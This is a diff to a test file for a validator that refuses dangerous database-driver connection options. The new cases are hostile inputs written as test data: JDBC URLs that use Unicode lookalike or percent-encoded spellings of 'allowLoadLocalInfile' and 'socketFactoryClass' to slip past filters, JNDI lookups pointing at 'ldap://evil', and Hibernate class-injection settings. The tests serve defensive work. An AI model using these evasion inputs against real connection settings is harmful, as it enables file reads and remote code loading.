@@ -54,6 +54,10 @@ def test_what_reaches_files_classes_and_other_servers_is_refused_without_its_val
         ("database.url", "h/d?sslfactory=x.Y"),
         ("sink.target", "jdbc:mysql://h/d?autoDeserialize=true"),
         ("warehouse.uri", "mysql://h/d?autoDeserialize=true"),
+        ("connection.url", "jdbc:sqlserver://h;socketFactoryCla\u017f\u017f=x.Y"),
+        ("connection.url", "jdbc:mysql://h/d?allowLoadLocalInf%C4%B1le=true"),
+        ("connection.url", "jdbc:db2://h:1/d:clientRerouteServerListJNDIName=ldap://evil;"),
+        ("driver.allowLoadLocalInf\u0131le", "true"),
         ("connection.allowLoadLocalInfile", "true"),
         ("hibernate.connection.autoDeserialize", "true"),
         ("hibernate.connection.url", "jdbc:mysql://h/d?autoDeserialize=true"),
@@ -82,6 +86,11 @@ def test_what_has_a_database_driver_run_code_or_read_files_is_refused(key: str, 
         ("driver.service", "other"),
         ("driver.localSocketAddress", "/run/mysqld/mysqld.sock"),
         ("connection.url", "jdbc:sqlite:/opt/airflow/airflow.db"),
+        ("connection.url", "jdbc:sybase:jndi:ldap://evil/cn=x"),
+        ("hibernate.jndi.url", "ldap://evil/dc=x"),
+        ("hibernate.connection.datasource", "cn=x"),
+        ("hibernate.connection.provider_class", "x.Y"),
+        ("hibernate.session_factory.statement_inspector", "x.Y"),
         ("hibernate.connection.url", " JDBC:H2:/opt/x"),
     ],
 )
@@ -137,6 +146,7 @@ def test_other_options_of_drivers_are_a_plugins_own() -> None:
         "schema.registry.url": "http://h:8081?init",
         "note": "allowLoadLocalInfile=true",
     }
+    tuned |= {"hibernate.c3p0.max_size": "5", "hibernate.jdbc.time_zone": "UTC"}
     assert refused_keys({**tuned, **urls, "heartbeat.action.query": "UPDATE beats SET at = now()"}) == {}
 
 
